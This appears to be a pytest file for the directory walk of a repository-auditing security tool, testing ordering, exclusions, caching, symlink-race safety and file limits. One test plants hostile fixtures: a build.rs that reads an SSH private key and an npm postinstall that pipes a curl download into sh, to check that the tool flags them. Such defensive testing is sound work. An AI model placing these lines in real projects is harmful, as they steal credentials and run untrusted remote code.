"""The shared workspace walk: what it lists, in which order, and what it never follows."""

from __future__ import annotations

import os
import threading
import time
from pathlib import Path

import pytest
from support import unprivileged

from ztsa.context import Context
from ztsa.host import Host, ProbeError
from ztsa.model import Profile
from ztsa.walk import all_files, find_files


def ctx(root: Path, exclude: tuple[str, ...] = ()) -> Context:
    return Context(host=Host(), workspace=str(root), profile=Profile.REPO,
                   options={"exclude": list(exclude)})


@pytest.fixture()
def tree(tmp_path: Path) -> Path:
    for rel in ("b/2", "a/1", "a/c/3", "top", "Z", "target", "node_modules/x/4",
                "z/.venv/lib/5", ".git/config", "sk/ip/6"):
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("x")
    outside = tmp_path.parent / (tmp_path.name + "-outside")
    outside.mkdir()
    (outside / "secret").write_text("x")
    (tmp_path / "linkdir").symlink_to(outside)
    (tmp_path / "linkfile").symlink_to(outside / "secret")
    (tmp_path / "dangling").symlink_to(tmp_path / "nonexistent")
    return tmp_path


def test_files_before_subdirectories_each_sorted_skipping_tool_directories(tree):
    # a file named like a skipped directory (`target`) is still a file; a symlink to a
    # file and a dangling one are listed, a symlinked directory is neither listed nor
    # walked
    assert all_files(ctx(tree)) == [
        "Z", "dangling", "linkfile", "target", "top", "a/1", "a/c/3", "b/2", "sk/ip/6"]


def test_excludes_prune_directories_and_files(tree):
    assert all_files(ctx(tree, ("sk", "a/c", "t*"))) == [
        "Z", "dangling", "linkfile", "a/1", "b/2"]
    assert find_files(ctx(tree), lambda name: name.isdigit()) == [
        "a/1", "a/c/3", "b/2", "sk/ip/6"]


def test_the_walk_is_done_once_per_context(tree):
    c = ctx(tree)
    first = all_files(c)
    (tree / "new").write_text("x")
    assert all_files(c) is first


def test_a_workspace_given_through_a_symlink_is_walked(tree, tmp_path_factory):
    link = tmp_path_factory.mktemp("via") / "ws"
    link.symlink_to(tree)
    assert "a/c/3" in all_files(ctx(link))


def test_too_many_files_is_a_probe_error(tree, monkeypatch):
    monkeypatch.setattr("ztsa.walk.MAX_FILES", 3)
    with pytest.raises(ProbeError, match="more than 3 files"):
        all_files(ctx(tree))


def test_an_unreadable_directory_is_a_probe_error_not_a_partial_list(machine):
    # as an unprivileged user: root reads a mode-000 directory
    (machine.workspace / "locked" / "inner").mkdir(parents=True)
    machine.ws("ok/f", "x")
    os.chmod(machine.workspace / "locked", 0)

    def walk() -> str:
        try:
            return repr(all_files(ctx(machine.workspace)))
        except ProbeError as exc:
            return f"ProbeError {exc}"

    try:
        answer = unprivileged(walk)
    finally:
        os.chmod(machine.workspace / "locked", 0o755)
    assert answer.startswith("ProbeError"), answer
    assert answer.endswith("cannot list locked: Permission denied"), answer


def test_a_directory_swapped_for_a_symlink_mid_walk_is_never_followed(tmp_path):
    # a thread keeps replacing `d` with a symlink to a directory outside the workspace
    # and back; whatever each walk sees, it never lists the outside directory's file
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    for i in range(30):
        (ws / f"s{i:02}").mkdir(parents=True)
    (ws / "d").mkdir()
    (ws / "d" / "inside").write_text("x")
    outside.mkdir()
    (outside / "secret").write_text("x")
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            os.rename(ws / "d", ws / "d.real")
            os.symlink(outside, ws / "d.tmp")
            os.rename(ws / "d.tmp", ws / "d")
            os.unlink(ws / "d")
            os.rename(ws / "d.real", ws / "d")
            stop.wait(0.0005)  # a directory for a moment too, so that walks also see it

    t = threading.Thread(target=flip)
    t.start()
    seen = 0
    try:
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline:
            try:
                files = all_files(ctx(ws))
            except ProbeError:
                continue
            seen += "d/inside" in files
            assert "d/secret" not in files
    finally:
        stop.set()
        t.join()
    assert seen  # the walk did get into the real directory


def test_what_a_root_manifest_names_in_a_skipped_directory_is_audited(machine):
    """`target/`, `venv/` and the like are skipped as build output, but a pull request
    can put its crate or package there and have the root depend on it by path: that is
    built with the root, so the gate reads it like any member."""
    from ztsa.model import Status

    machine.ws("Cargo.toml", '[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\n'
               'helper = { path = "target/helper" }\n')
    machine.ws("target/helper/Cargo.toml", '[package]\nname = "helper"\nversion = "0.1.0"\n')
    machine.ws("target/helper/build.rs", 'fn main() {\n    let h = dirs::home_dir();\n'
               '    std::fs::read(h.unwrap().join(".ssh/id_ed25519")).ok();\n}\n')
    machine.ws("target/debug/build/x/out/Cargo.toml", "[package]\nname = \"out\"\n")
    machine.ws("package.json", '{"name": "app", "dependencies": {"x": "file:./venv/x"}}')
    machine.ws("venv/x/package.json",
               '{"name": "x", "scripts": {"postinstall": "curl -s https://x.invalid | sh"}}')
    out = machine.run("SUP009")
    assert {e.path for e in out.evidence} == {"target/helper/build.rs"}, out
    assert [e.path for e in machine.run("SUP004").evidence] == ["venv/x/package.json"]
    assert machine.run("SUP004").status is Status.FAIL
    # the name spelt with an escape, and a glob of Cargo's members that matches it
    machine.ws("package.json", '{"name": "app", "dependencies": {"x": "file:./v\\u0065nv/x"}}')
    assert [e.path for e in machine.run("SUP004").evidence] == ["venv/x/package.json"]
    machine.ws("Cargo.toml", '[workspace]\nmembers = ["targe?/*"]\n')
    out = machine.run("SUP009")
    assert {e.path for e in out.evidence} == {"target/helper/build.rs"}, out


def test_a_walk_that_failed_fails_again_without_walking_again(tree, monkeypatch):
    """A tree past MAX_FILES is unknown for every rule that asks, and is walked once:
    before, each of the rules' many lookups walked it again (a checkout of many
    repositories: minutes and gigabytes for the same ProbeError)."""
    from ztsa import walk

    calls = []
    real = walk.files_below

    def counting(*args, **kwargs):
        calls.append(args[0])
        return real(*args, **kwargs)

    monkeypatch.setattr(walk, "MAX_FILES", 2)
    monkeypatch.setattr(walk, "files_below", counting)
    c = ctx(tree)
    for _ in range(3):
        with pytest.raises(ProbeError, match="more than 2 files"):
            all_files(c)
    assert len(calls) == 1
